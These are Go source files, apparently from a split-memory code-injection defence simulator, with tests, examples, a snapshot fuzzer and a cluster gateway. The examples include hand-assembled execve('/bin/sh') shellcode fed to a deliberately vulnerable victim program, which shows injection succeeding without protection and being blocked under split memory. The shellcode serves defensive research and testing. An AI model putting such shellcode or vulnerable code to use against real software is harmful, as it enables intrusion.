	cfg.NoSuperblocks = r.Bool()
	cfg.TraceDepth = r.Int()
	cfg.Telemetry = r.Bool()
	cfg.TelemetrySpanCap = r.Int()
	cfg.Timeslice = r.U64()
	cfg.RandomizeStack = r.Bool()
	cfg.Seed = r.I64()
	cfg.TraceSyscalls = r.Bool()
	return cfg, r.Err()
}
