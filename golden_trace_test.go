package splitmem_test

// Golden-trace regression corpus: the kernel event log of every attack form
// and every real-world scenario under the canonical split deployment is
// pinned by digest in testdata/golden_traces.json. The event log is the
// simulator's most information-dense observable — it orders faults,
// detections, restrictions and responses — so any behavioural drift in the
// fetch path, the split engine or the responders shows up here even when the
// coarse pass/fail verdicts still agree.
//
// After an intentional behaviour change, regenerate with:
//
//	go test -run TestGoldenTraces -update .
//
// and review the diff of testdata/golden_traces.json like any other code.

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"testing"

	"splitmem"
	"splitmem/internal/attacks"
	"splitmem/internal/workloads"
)

var updateGolden = flag.Bool("update", false, "rewrite testdata/golden_traces.json from current behaviour")

const goldenPath = "testdata/golden_traces.json"

func digest(events []byte) string {
	sum := sha256.Sum256(events)
	return hex.EncodeToString(sum[:])
}

// collectGolden produces the digest of every pinned trace under the
// canonical configuration: split protection, break response, defaults
// otherwise (the deployment the paper evaluates).
func collectGolden(t *testing.T) map[string]string {
	t.Helper()
	got := map[string]string{}

	cells, err := attacks.RunExtendedWilander(splitmem.Config{Protection: splitmem.ProtSplit})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cells {
		if c.NA {
			continue
		}
		got[fmt.Sprintf("wilander/%v/%v", c.Tech, c.Seg)] = digest(c.Result.EventsJSONL)
	}

	for _, sc := range attacks.Scenarios() {
		r, err := attacks.RunScenario(sc.Key, splitmem.Config{
			Protection: splitmem.ProtSplit,
			Response:   splitmem.Break,
		})
		if err != nil {
			t.Fatal(err)
		}
		got["scenario/"+sc.Key] = digest(r.EventsJSONL)
	}

	// Hot compute loop under a deliberately tiny timeslice: compiled
	// superblocks must side-exit at every slice boundary, and the
	// cycle-stamped event log pins that those boundaries land on exactly the
	// cycles an interpreter-driven scheduler would pick.
	prog, ok := workloads.Lookup("nbench")
	if !ok {
		t.Fatal("nbench workload missing from catalog")
	}
	m, err := splitmem.New(splitmem.Config{
		Protection:    splitmem.ProtSplit,
		Timeslice:     1000,
		TraceSyscalls: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.LoadAsm(prog.Src, prog.Name); err != nil {
		t.Fatal(err)
	}
	m.Run(40_000_000_000)
	s := m.Stats()
	if s.SuperblockSideExits == 0 {
		t.Fatal("hot-loop trace took no superblock side exits — the timeslice pin is vacuous")
	}
	ev, err := m.EventsJSONL()
	if err != nil {
		t.Fatal(err)
	}
	got["workload/nbench-timeslice"] = digest(ev)
	return got
}

func TestGoldenTraces(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus run is broad")
	}
	got := collectGolden(t)

	if *updateGolden {
		if err := os.MkdirAll(filepath.Dir(goldenPath), 0o755); err != nil {
			t.Fatal(err)
		}
		out, err := json.MarshalIndent(got, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath, append(out, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %d golden digests to %s", len(got), goldenPath)
		return
	}

	raw, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("no golden corpus (%v); run: go test -run TestGoldenTraces -update .", err)
	}
	want := map[string]string{}
	if err := json.Unmarshal(raw, &want); err != nil {
		t.Fatal(err)
	}

	var keys []string
	for k := range want {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		if got[k] == "" {
			t.Errorf("%s: pinned trace no longer produced", k)
			continue
		}
		if got[k] != want[k] {
			t.Errorf("%s: event log drifted: got %s, golden %s "+
				"(intentional? re-run with -update and review the diff)", k, got[k], want[k])
		}
	}
	for k := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("%s: new trace not in the golden corpus; re-run with -update", k)
		}
	}
}
