module splitmem

go 1.22
