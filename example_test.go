package splitmem_test

import (
	"bytes"
	"fmt"

	"splitmem"
)

// Example demonstrates the library's core promise: the same code injection
// succeeds on a conventional von Neumann machine and is architecturally
// impossible under split memory.
func Example() {
	victim := `
_start:
    sub esp, 1024
    mov ecx, esp        ; buffer
    mov ebx, 0
    mov edx, 1024
    mov eax, 3          ; read(0, buffer, 1024)
    int 0x80
    jmp ecx             ; hijacked control transfer
`
	// Position-independent shellcode: call/pop GetPC, then execve.
	shellcode := []byte{
		0xE8, 0, 0, 0, 0, // call .+0
		0x5B,                    // pop ebx
		0x05, 0x03, 14, 0, 0, 0, // add ebx, 14 (-> path)
		0xB8, 11, 0, 0, 0, // mov eax, SYS_EXECVE
		0xCD, 0x80, // int 0x80
	}
	shellcode = append(shellcode, []byte("/bin/sh\x00")...)

	for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtSplit} {
		m := splitmem.MustNew(splitmem.Config{Protection: prot})
		p, err := m.LoadAsm(victim, "victim")
		if err != nil {
			panic(err)
		}
		p.StdinWrite(shellcode)
		m.Run(0)
		fmt.Printf("%s: shell=%v\n", prot, p.ShellSpawned())
	}
	// Output:
	// none: shell=true
	// split: shell=false
}

// ExampleMachine_EventsOf shows how detections report exactly where and
// what was injected: the bytes come from the data twin at the hijacked EIP.
func ExampleMachine_EventsOf() {
	victim := `
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, 64
    mov eax, 3
    int 0x80
    mov ecx, buf
    jmp ecx
.data
buf: .space 64
`
	m := splitmem.MustNew(splitmem.Config{Protection: splitmem.ProtSplit})
	p, _ := m.LoadAsm(victim, "victim")
	p.StdinWrite([]byte{0x90, 0x90, 0xCD, 0x80}) // nop; nop; int 0x80
	m.Run(0)

	for _, ev := range m.EventsOf(splitmem.EvInjectionDetected) {
		fmt.Printf("injected code detected, first bytes: % x\n", ev.Data[:4])
	}
	killed, sig := p.Killed()
	fmt.Printf("killed=%v signal=%v\n", killed, sig)
	// Output:
	// injected code detected, first bytes: 90 90 cd 80
	// killed=true signal=SIGILL
}

// ExampleConfig_observe runs the honeypot configuration: the attack is
// allowed to proceed under Sebek-style keystroke logging.
func ExampleConfig_observe() {
	victim := `
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, 64
    mov eax, 3
    int 0x80
    mov ecx, buf
    jmp ecx
.data
buf: .space 64
`
	m := splitmem.MustNew(splitmem.Config{
		Protection: splitmem.ProtSplit,
		Response:   splitmem.Observe,
	})
	p, _ := m.LoadAsm(victim, "victim")
	// execve("/bin/sh") shellcode, position independent.
	sc := []byte{0xE8, 0, 0, 0, 0, 0x5B, 0x05, 0x03, 14, 0, 0, 0,
		0xB8, 11, 0, 0, 0, 0xCD, 0x80}
	sc = append(sc, []byte("/bin/sh\x00")...)
	p.StdinWrite(sc)
	m.Run(0)
	fmt.Printf("shell=%v observed=%v\n",
		p.ShellSpawned(), len(m.EventsOf(splitmem.EvInjectionObserved)) > 0)

	p.StdinWrite([]byte("whoami\n"))
	m.Run(0)
	fmt.Printf("attacker sees: %s", p.StdoutDrain())
	// Output:
	// shell=true observed=true
	// attacker sees: root
}

// ExampleMachine_Fork is the warm-pool pattern: boot a template once, park it
// at its input read, then fork a fresh bit-identical machine per request.
// Forks share every physical frame with the template copy-on-write, so each
// one costs only the frames it dirties — no reboot, no frame copying up front.
func ExampleMachine_Fork() {
	echo := `
_start:
    sub esp, 64
    mov ebx, 0
    mov ecx, esp
    mov edx, 1
    mov eax, 3          ; read(0, buf, 1) — parks until input arrives
    int 0x80
    load ebx, [esp]
    and ebx, 255
    mov eax, 1          ; exit(buf[0])
    int 0x80
`
	template := splitmem.MustNew(splitmem.Config{Protection: splitmem.ProtSplit})
	if _, err := template.LoadAsm(echo, "echo"); err != nil {
		panic(err)
	}
	template.Run(1_000_000) // park at the blocking read

	for _, in := range []byte{'A', 'B'} {
		fork, err := template.Fork()
		if err != nil {
			panic(err)
		}
		p, _ := fork.Kernel().Process(1)
		p.StdinWrite([]byte{in})
		p.StdinClose()
		fork.Run(1_000_000)
		_, status := p.Exited()
		fmt.Printf("fork exited with %c\n", status)
		fork.Close() // release the shared frames
	}
	// Output:
	// fork exited with A
	// fork exited with B
}

// ExampleImage shows the serialized form of a warm-pool template: freeze a
// parked machine into an Image, ship it as bytes (CRC-protected), and boot
// any number of machines from the deserialized copy.
func ExampleImage() {
	m := splitmem.MustNew(splitmem.Config{Protection: splitmem.ProtSplit})
	if _, err := m.LoadAsm(`
_start:
    mov ebx, 42
    mov eax, 1
    int 0x80
`, "answer"); err != nil {
		panic(err)
	}
	img, err := m.Image()
	if err != nil {
		panic(err)
	}

	var wire bytes.Buffer
	if _, err := img.WriteTo(&wire); err != nil {
		panic(err)
	}
	img2, err := splitmem.ReadImage(&wire)
	if err != nil {
		panic(err)
	}

	boot, err := img2.Boot()
	if err != nil {
		panic(err)
	}
	boot.Run(1_000_000)
	p, _ := boot.Kernel().Process(1)
	_, status := p.Exited()
	fmt.Printf("booted machine exited with %d\n", status)
	// Output:
	// booted machine exited with 42
}
