package splitmem_test

// Snapshot/restore unit tests: the image round-trips, corruption in any
// byte is detected before any state is adopted, and the decoder survives
// arbitrary hostile images (FuzzRestore). The full architectural-equivalence
// proof lives in oracle_test.go (TestOracleSnapshot*).

import (
	"bytes"
	"errors"
	"testing"

	"splitmem"
	"splitmem/internal/workloads"
)

func snapshotFixture(t testing.TB) []byte {
	prog, ok := workloads.Lookup("syscall")
	if !ok {
		t.Fatal("syscall workload missing from catalog")
	}
	m, err := splitmem.New(splitmem.Config{
		Protection:     splitmem.ProtSplit,
		RandomizeStack: true,
		Seed:           11,
		TraceDepth:     16,
		PhysBytes:      4 << 20, // small RAM keeps the image fuzzer-sized
	})
	if err != nil {
		t.Fatal(err)
	}
	p, err := m.LoadAsm(prog.Src, prog.Name)
	if err != nil {
		t.Fatal(err)
	}
	if prog.Input != "" {
		p.StdinWrite([]byte(prog.Input))
		p.StdinClose()
	}
	m.Run(200_000) // park mid-run with split pages, TLB state, events
	img, err := m.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// TestSnapshotRoundTrip: Restore(Snapshot(m)) yields a machine whose own
// snapshot is byte-identical and whose continued run finishes like the
// original.
func TestSnapshotRoundTrip(t *testing.T) {
	img := snapshotFixture(t)
	m, err := splitmem.Restore(img)
	if err != nil {
		t.Fatal(err)
	}
	img2, err := m.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(img, img2) {
		t.Fatalf("restored machine re-serializes differently: %d vs %d bytes", len(img2), len(img))
	}
	res := m.Run(0)
	if res.Reason != splitmem.ReasonAllDone {
		t.Fatalf("restored machine did not finish: %v", res.Reason)
	}
	p, ok := m.Kernel().Process(1)
	if !ok {
		t.Fatal("pid 1 missing after restore")
	}
	if exited, status := p.Exited(); !exited || status != 0 {
		t.Fatalf("restored workload exited=%v status=%d", exited, status)
	}
}

// TestSnapshotDeterministic: two snapshots of the same parked machine are
// byte-identical (the image is a pure function of machine state).
func TestSnapshotDeterministic(t *testing.T) {
	a := snapshotFixture(t)
	b := snapshotFixture(t)
	if !bytes.Equal(a, b) {
		t.Fatalf("identical machines serialize differently: %d vs %d bytes", len(a), len(b))
	}
}

// TestSnapshotRejectsCorruption: every single-byte flip anywhere in the
// image must be caught by the checksum, and truncation/version skew map to
// their typed sentinels.
func TestSnapshotRejectsCorruption(t *testing.T) {
	img := snapshotFixture(t)

	// Bit flips across the image (sampled; the CRC covers every byte).
	for off := 0; off < len(img); off += 1 + len(img)/97 {
		mut := append([]byte(nil), img...)
		mut[off] ^= 0x40
		if _, err := splitmem.Restore(mut); err == nil {
			t.Fatalf("corruption at offset %d went undetected", off)
		}
	}

	// Truncations at every framing-relevant prefix length.
	for _, n := range []int{0, 4, 8, 11, len(img) / 2, len(img) - 1} {
		if _, err := splitmem.Restore(img[:n]); err == nil {
			t.Fatalf("truncation to %d bytes went undetected", n)
		}
	}

	// Version skew with a recomputed (valid) checksum.
	mut := append([]byte(nil), img...)
	mut[8] = 0xFF // version word follows the 8-byte magic
	patchChecksum(mut)
	_, err := splitmem.Restore(mut)
	if !errors.Is(err, splitmem.ErrSnapshotVersion) {
		t.Fatalf("version skew produced %v, want ErrSnapshotVersion", err)
	}

	// Bad magic.
	mut = append([]byte(nil), img...)
	mut[0] = 'X'
	if _, err := splitmem.Restore(mut); !errors.Is(err, splitmem.ErrSnapshotCorrupt) {
		t.Fatalf("bad magic produced %v, want ErrSnapshotCorrupt", err)
	}
}

// patchChecksum rewrites the trailing CRC so structural mutations survive
// the integrity check and exercise the decoder proper.
func patchChecksum(img []byte) {
	body := img[:len(img)-4]
	sum := splitmem.SnapshotChecksum(body)
	img[len(img)-4] = byte(sum)
	img[len(img)-3] = byte(sum >> 8)
	img[len(img)-2] = byte(sum >> 16)
	img[len(img)-1] = byte(sum >> 24)
}

// FuzzRestore: the snapshot decoder must never panic, hang, or over-allocate
// on hostile input — corrupt, truncated, version-skewed, or CRC-repaired
// structurally-invalid images all fail with an error.
func FuzzRestore(f *testing.F) {
	img := snapshotFixture(f)
	f.Add(img)
	f.Add(img[:len(img)/2])
	f.Add([]byte("S86SNAP\x00"))
	f.Add([]byte{})
	// A CRC-valid but structurally mutated seed steers the fuzzer past the
	// checksum into the section decoders.
	mut := append([]byte(nil), img...)
	if len(mut) > 64 {
		mut[40] ^= 0xFF
		patchChecksum(mut)
	}
	f.Add(mut)
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := splitmem.Restore(data)
		if err != nil {
			return
		}
		// A decodable image must yield a machine that can serialize itself.
		if _, err := m.Snapshot(); err != nil {
			t.Fatalf("restored machine cannot re-snapshot: %v", err)
		}
	})
}
