// Command splitmem-gateway fronts a sharded cluster of splitmem-serve
// replicas: one stable /v1/jobs endpoint with consistent-hash routing,
// health-probe failover, typed retry of shed submissions, and live
// migration of in-flight jobs (CRC-gated checkpoint export and resume)
// when a replica drains or dies.
//
// Usage:
//
//	splitmem-gateway -replicas http://h1:8086,http://h2:8086,http://h3:8086
//	                 [-addr :8085] [-probe-interval 250ms] [-fail-threshold 3]
//	                 [-retry-budget 8] [-selftest]
//
// Endpoints:
//
//	POST /v1/jobs            run a job on some replica, respond with the result
//	POST /v1/jobs?stream=1   NDJSON stream: accepted line, event lines, one
//	                         terminal result line — a single unbroken stream
//	                         even if the job migrates between replicas mid-run
//	GET  /healthz            gateway identity, per-replica state table
//	                         (up/degraded/draining/down, instance IDs, restart
//	                         counts), and job counters
//
// The contract: every acknowledged job reaches exactly one terminal result,
// through replica drains, crashes, and rolling restarts. SIGINT/SIGTERM
// stops the listener gracefully; in-flight relays finish first.
//
// -selftest boots three in-process replicas behind an in-process gateway,
// runs the concurrent load harness while one replica is killed and
// restarted mid-load, and exits nonzero if any acknowledged job is lost.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"splitmem/internal/cluster"
	"splitmem/internal/serve"
	"splitmem/internal/serve/loadtest"
)

func main() {
	var (
		addr          = flag.String("addr", ":8085", "listen address")
		replicas      = flag.String("replicas", "", "comma-separated replica base URLs (required unless -selftest)")
		probeInterval = flag.Duration("probe-interval", 250*time.Millisecond, "health-probe period")
		failThreshold = flag.Int("fail-threshold", 3, "consecutive probe failures before a replica is down")
		retryBudget   = flag.Int("retry-budget", 8, "submission/resume attempts per job")
		selftest      = flag.Bool("selftest", false, "run the in-process kill-mid-load smoke test and exit")
	)
	flag.Parse()

	if *selftest {
		if err := runSelftest(); err != nil {
			fmt.Fprintln(os.Stderr, "selftest:", err)
			os.Exit(1)
		}
		fmt.Println("selftest: ok")
		return
	}

	var urls []string
	for _, u := range strings.Split(*replicas, ",") {
		if u = strings.TrimSpace(strings.TrimSuffix(u, "/")); u != "" {
			urls = append(urls, u)
		}
	}
	if len(urls) == 0 {
		fmt.Fprintln(os.Stderr, "splitmem-gateway: -replicas is required (comma-separated base URLs)")
		os.Exit(1)
	}

	gw, err := cluster.New(cluster.Config{
		Replicas:      urls,
		ProbeInterval: *probeInterval,
		FailThreshold: *failThreshold,
		RetryBudget:   *retryBudget,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	httpSrv := &http.Server{Addr: *addr, Handler: gw.Handler()}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	done := make(chan struct{})
	go func() {
		defer close(done)
		<-ctx.Done()
		fmt.Fprintln(os.Stderr, "splitmem-gateway: draining")
		// Shutdown waits for in-flight relays: every client stream gets its
		// terminal result line before the listener closes.
		shutCtx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		httpSrv.Shutdown(shutCtx)
		gw.Close()
	}()

	fmt.Fprintf(os.Stderr, "splitmem-gateway: listening on %s, fronting %d replicas\n", *addr, len(urls))
	if err := httpSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	<-done
	fmt.Fprintln(os.Stderr, "splitmem-gateway: drained")
}

// selftestSpin keeps jobs in flight long enough for the mid-load kill to
// catch some (~1.2M cycles).
const selftestSpin = `
_start:
    mov ecx, 400000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 0
    mov eax, 1
    int 0x80
`

// runSelftest proves the cluster contract end to end without a network:
// three replicas, 64 concurrent clients, one replica killed and restarted
// mid-load — zero acknowledged-then-lost jobs.
func runSelftest() error {
	h, err := cluster.NewHarness(3,
		serve.Config{Workers: 4, Backlog: 128, StreamSlice: 100_000, CheckpointCycles: 250_000},
		cluster.Config{
			ProbeInterval: 25 * time.Millisecond,
			FailThreshold: 3,
			RetryBudget:   20,
			RetryBackoff:  10 * time.Millisecond,
			MaxRetryDelay: 250 * time.Millisecond,
		})
	if err != nil {
		return err
	}
	defer h.Close()

	type loadDone struct {
		rep *loadtest.Report
		err error
	}
	lch := make(chan loadDone, 1)
	go func() {
		rep, err := loadtest.Run(loadtest.Config{
			BaseURL:    h.URL(),
			Clients:    64,
			Jobs:       2,
			Stream:     true,
			Retry503:   true,
			MaxRetries: 500,
			RetryDelay: 10 * time.Millisecond,
			Body: func(c, j int) ([]byte, error) {
				if c%4 == 0 {
					return json.Marshal(map[string]any{
						"name":       fmt.Sprintf("selftest-c%d-j%d", c, j),
						"source":     selftestSpin,
						"timeout_ms": 60000,
					})
				}
				return loadtest.DefaultJobBody(c, j)
			},
		})
		lch <- loadDone{rep, err}
	}()

	// The hard fault: a crash, not a drain. In-flight jobs on the killed
	// replica lose their streams mid-run and must be recovered elsewhere.
	time.Sleep(250 * time.Millisecond)
	fmt.Println("selftest: killing replica 1 mid-load")
	h.Nodes[1].Kill()
	time.Sleep(500 * time.Millisecond)
	if err := h.Nodes[1].Restart(); err != nil {
		return err
	}
	fmt.Println("selftest: replica 1 restarted")

	ld := <-lch
	if ld.err != nil {
		return ld.err
	}
	rep := ld.rep
	fmt.Println(rep)
	fmt.Printf("selftest: gateway: %d migrations, %d scratch resumes, %d corrupt fetches\n",
		h.Gateway.Migrations(), h.Gateway.ScratchResumes(), h.Gateway.CorruptFetches())
	if rep.Lost() != 0 || rep.GaveUp > 0 || len(rep.Failures) > 0 {
		return fmt.Errorf("cluster contract violated: %d lost, %d gave up, %d failures",
			rep.Lost(), rep.GaveUp, len(rep.Failures))
	}
	if got := rep.Clients * rep.Jobs; rep.Completed != got {
		return fmt.Errorf("completed %d of %d jobs", rep.Completed, got)
	}
	return nil
}
