// Command splitmem-gateway fronts a sharded cluster of splitmem-serve
// replicas: one stable /v1/jobs endpoint with consistent-hash routing,
// health-probe failover, typed retry of shed submissions, and live
// migration of in-flight jobs (CRC-gated checkpoint export and resume)
// when a replica drains or dies.
//
// Usage:
//
//	splitmem-gateway -replicas http://h1:8086,http://h2:8086,http://h3:8086
//	                 [-addr :8085] [-probe-interval 250ms] [-fail-threshold 3]
//	                 [-retry-budget 8] [-flightrecorder-dir dir]
//	                 [-pprof-addr 127.0.0.1:6060] [-no-tracing] [-selftest]
//
// Endpoints:
//
//	POST /v1/jobs            run a job on some replica, respond with the result
//	POST /v1/jobs?stream=1   NDJSON stream: accepted line, event lines, one
//	                         terminal result line — a single unbroken stream
//	                         even if the job migrates between replicas mid-run
//	GET  /healthz            gateway identity, build + uptime, per-replica state
//	                         table (up/degraded/draining/down, instance IDs,
//	                         restart counts, span counters), and job counters
//	GET  /metrics            federated Prometheus text: gateway instruments
//	                         plus every replica's exposition under a stable
//	                         replica="rN" label
//	GET  /v1/traces/{id}     merged distributed trace for one job across the
//	                         gateway and every replica it touched; add
//	                         ?format=chrome for a chrome://tracing timeline
//
// Every job carries an X-Splitmem-Trace ID (minted at the gateway if the
// client didn't send one) and records wall-clock lifecycle spans at each
// hop. -flightrecorder-dir arms the failure flight recorder: replica
// deaths, worker panics, CRC-gated checkpoint corruption, and jobs that
// exhaust the retry budget each dump a self-contained JSON post-mortem
// there. -pprof-addr serves net/http/pprof on a second listener; bind it
// to localhost (for example 127.0.0.1:6060) unless you mean to expose it.
//
// The contract: every acknowledged job reaches exactly one terminal result,
// through replica drains, crashes, and rolling restarts. SIGINT/SIGTERM
// stops the listener gracefully; in-flight relays finish first.
//
// -selftest boots three in-process replicas behind an in-process gateway,
// checks /healthz build info, forces a live migration and verifies its
// merged trace spans both replicas, runs the concurrent load harness while
// one replica is killed and restarted mid-load, checks the federated
// /metrics, and requires the kill to leave a flight-recorder dump. With
// -trace-out the migration's merged Chrome trace is written there.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	_ "net/http/pprof"

	"splitmem/internal/cluster"
	"splitmem/internal/faultmesh"
	"splitmem/internal/serve"
	"splitmem/internal/serve/loadtest"
)

// runChaosCampaign boots the in-process hostile cluster (fault-injecting
// transport between gateway and replicas, fault-injecting disks under the
// journals, a conductor killing and draining replicas mid-load), drives the
// seeded load, and prints the invariant table. The JSON report — the CI
// artifact — is written even when the campaign fails, so a red run ships
// its own forensics.
func runChaosCampaign(seed uint64, clients int, reportPath string) error {
	rep, err := faultmesh.RunCampaign(faultmesh.CampaignConfig{Seed: seed, Clients: clients})
	if rep != nil && reportPath != "" {
		f, ferr := os.Create(reportPath)
		if ferr != nil {
			return ferr
		}
		if werr := rep.WriteJSON(f); werr != nil {
			f.Close()
			return werr
		}
		if cerr := f.Close(); cerr != nil {
			return cerr
		}
		fmt.Fprintf(os.Stderr, "chaos-campaign: report written to %s\n", reportPath)
	}
	if err != nil {
		return err
	}
	if rep.Load != nil {
		fmt.Println(rep.Load)
	}
	fmt.Printf("chaos-campaign: mesh faults %+v\n", rep.MeshFault)
	fmt.Printf("chaos-campaign: disk faults %+v\n", rep.DiskFault)
	for _, inv := range rep.Invariants {
		mark := "ok"
		if !inv.Passed {
			mark = "FAILED: " + inv.Detail
		}
		fmt.Printf("chaos-campaign: invariant %-24s %s\n", inv.Name, mark)
	}
	if !rep.Passed {
		return fmt.Errorf("invariants violated (reproduce with -campaign-seed %d)", rep.Seed)
	}
	return nil
}

func main() {
	var (
		addr          = flag.String("addr", ":8085", "listen address")
		replicas      = flag.String("replicas", "", "comma-separated replica base URLs (required unless -selftest)")
		probeInterval = flag.Duration("probe-interval", 250*time.Millisecond, "health-probe period")
		failThreshold = flag.Int("fail-threshold", 3, "consecutive probe failures before a replica is down")
		retryBudget   = flag.Int("retry-budget", 8, "submission/resume attempts per job")
		flightDir     = flag.String("flightrecorder-dir", "", "directory for failure post-mortem dumps (\"\" = off)")
		flightSpans   = flag.Int("flightrecorder-spans", 0, "host spans captured per flight-recorder dump (0 = 256)")
		flightMax     = flag.Int("flightrecorder-max", 0, "rotate oldest dumps past this many flight-*.json files (0 = 512)")
		flightMaxMB   = flag.Int("flightrecorder-max-bytes", 0, "rotate oldest dumps past this total byte size (0 = 256 MiB)")
		pprofAddr     = flag.String("pprof-addr", "", "serve net/http/pprof on this address (\"\" = off; bind to localhost, e.g. 127.0.0.1:6060)")
		noTracing     = flag.Bool("no-tracing", false, "disable host-span tracing (on by default)")
		traceCap      = flag.Int("trace-span-cap", 0, "host-span ring capacity (0 = default)")
		selftest      = flag.Bool("selftest", false, "run the in-process kill-mid-load smoke test and exit")
		traceOut      = flag.String("trace-out", "", "selftest: write the migration probe's merged Chrome trace here")
		warmPool      = flag.Bool("warmpool", false, "selftest: run the harness replicas with snapshot-forked warm pools (jobs fork from template images copy-on-write)")

		chaosCampaign   = flag.Bool("chaos-campaign", false, "run the seeded fault-mesh chaos campaign against an in-process cluster and exit (nonzero on any invariant failure)")
		campaignSeed    = flag.Uint64("campaign-seed", 1, "chaos campaign: fault-schedule seed (same seed, same schedule)")
		campaignClients = flag.Int("campaign-clients", 0, "chaos campaign: concurrent clients (0 = 200)")
		campaignReport  = flag.String("campaign-report", "", "chaos campaign: write the JSON invariant report to this file")
	)
	flag.Parse()

	startPprof(*pprofAddr, "splitmem-gateway")

	if *chaosCampaign {
		if err := runChaosCampaign(*campaignSeed, *campaignClients, *campaignReport); err != nil {
			fmt.Fprintln(os.Stderr, "chaos-campaign:", err)
			os.Exit(1)
		}
		fmt.Println("chaos-campaign: ok")
		return
	}

	if *selftest {
		if err := runSelftest(*flightDir, *traceOut, *warmPool); err != nil {
			fmt.Fprintln(os.Stderr, "selftest:", err)
			os.Exit(1)
		}
		fmt.Println("selftest: ok")
		return
	}

	var urls []string
	for _, u := range strings.Split(*replicas, ",") {
		if u = strings.TrimSpace(strings.TrimSuffix(u, "/")); u != "" {
			urls = append(urls, u)
		}
	}
	if len(urls) == 0 {
		fmt.Fprintln(os.Stderr, "splitmem-gateway: -replicas is required (comma-separated base URLs)")
		os.Exit(1)
	}

	gw, err := cluster.New(cluster.Config{
		Replicas:               urls,
		ProbeInterval:          *probeInterval,
		FailThreshold:          *failThreshold,
		RetryBudget:            *retryBudget,
		FlightRecorderDir:      *flightDir,
		FlightRecorderSpans:    *flightSpans,
		FlightRecorderMaxDumps: *flightMax,
		FlightRecorderMaxBytes: int64(*flightMaxMB),
		NoTracing:              *noTracing,
		TraceSpanCap:           *traceCap,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	httpSrv := &http.Server{Addr: *addr, Handler: gw.Handler()}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	done := make(chan struct{})
	go func() {
		defer close(done)
		<-ctx.Done()
		fmt.Fprintln(os.Stderr, "splitmem-gateway: draining")
		// Shutdown waits for in-flight relays: every client stream gets its
		// terminal result line before the listener closes.
		shutCtx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		httpSrv.Shutdown(shutCtx)
		gw.Close()
	}()

	fmt.Fprintf(os.Stderr, "splitmem-gateway: listening on %s, fronting %d replicas\n", *addr, len(urls))
	if err := httpSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	<-done
	fmt.Fprintln(os.Stderr, "splitmem-gateway: drained")
}

// startPprof serves net/http/pprof (registered on the default mux by the
// blank import) on its own listener when addr is non-empty. Shared by the
// serve and gateway commands' documentation: bind to localhost unless the
// profiler is meant to be reachable.
func startPprof(addr, who string) {
	if addr == "" {
		return
	}
	go func() {
		fmt.Fprintf(os.Stderr, "%s: pprof on http://%s/debug/pprof/\n", who, addr)
		if err := http.ListenAndServe(addr, nil); err != nil {
			fmt.Fprintf(os.Stderr, "%s: pprof listener: %v\n", who, err)
		}
	}()
}

// selftestSpin keeps jobs in flight long enough for the mid-load kill to
// catch some (~9M cycles; the count grew when sparse-frame snapshots made
// per-slice checkpoints cheap enough to speed whole jobs up ~12x).
const selftestSpin = `
_start:
    mov ecx, 3000000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 0
    mov eax, 1
    int 0x80
`

// selftestProbeSpin is the migration probe (~100M cycles, a couple hundred
// milliseconds): long enough that draining its host catches it mid-run with
// a checkpoint to ship, sized like the spin constants in the cluster tests.
const selftestProbeSpin = `
_start:
    mov ecx, 33000000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 0
    mov eax, 1
    int 0x80
`

// runSelftest proves the cluster contract and its observability end to end
// without a network: three replicas, a forced live migration whose merged
// trace must span both hosts, 64 concurrent clients with one replica killed
// and restarted mid-load, federated metrics, and a flight-recorder dump
// for the kill.
func runSelftest(flightDir, traceOut string, warmPool bool) error {
	if flightDir == "" {
		// The flight-recorder assertion always runs; without an explicit
		// destination the dumps go somewhere disposable.
		d, err := os.MkdirTemp("", "splitmem-flight-*")
		if err != nil {
			return err
		}
		defer os.RemoveAll(d)
		flightDir = d
	}
	h, err := cluster.NewHarness(3,
		serve.Config{Workers: 4, Backlog: 128, StreamSlice: 100_000, CheckpointCycles: 250_000,
			WarmPool: warmPool},
		cluster.Config{
			ProbeInterval:     25 * time.Millisecond,
			FailThreshold:     3,
			RetryBudget:       20,
			RetryBackoff:      10 * time.Millisecond,
			MaxRetryDelay:     250 * time.Millisecond,
			FlightRecorderDir: flightDir,
		})
	if err != nil {
		return err
	}
	defer h.Close()

	if err := checkHealthz(h.URL()); err != nil {
		return fmt.Errorf("healthz: %w", err)
	}
	if err := migrationTraceProbe(h, traceOut); err != nil {
		return fmt.Errorf("migration trace: %w", err)
	}

